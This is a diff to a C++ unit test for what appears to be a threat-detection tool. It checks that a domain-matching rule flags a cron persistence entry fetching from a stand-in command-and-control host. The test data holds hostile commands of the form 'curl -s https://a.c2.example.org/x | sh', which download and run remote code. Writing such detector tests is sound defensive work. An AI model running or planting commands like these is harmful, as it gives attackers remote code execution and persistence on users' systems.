@@ -195,8 +195,10 @@ TEST(ImportedPolicy, TheMatcherFindsAnotherThingThanTheFeedNamed) {
   EXPECT_THAT(found(talks("198.51.100.9", 80)), IsEmpty());
   scan::PersistenceFacts cron;
   cron.identity.kind = model::PersistenceKind::kCron;
-  cron.identity.command = "curl -s https://c2.example.org/x | sh";
+  cron.identity.command = "curl -s https://a.c2.example.org/x | sh";
   EXPECT_THAT(found(scan::Object(cron)), ElementsAre("c50_domain_starts"));
+  cron.identity.command = "curl -s https://notc2.example.org/x | sh";
+  EXPECT_THAT(found(scan::Object(cron)), IsEmpty());
 }
 
 TEST(ImportedPolicy, AWholePathIsLookedForInTheScopeOfHashesOnly) {
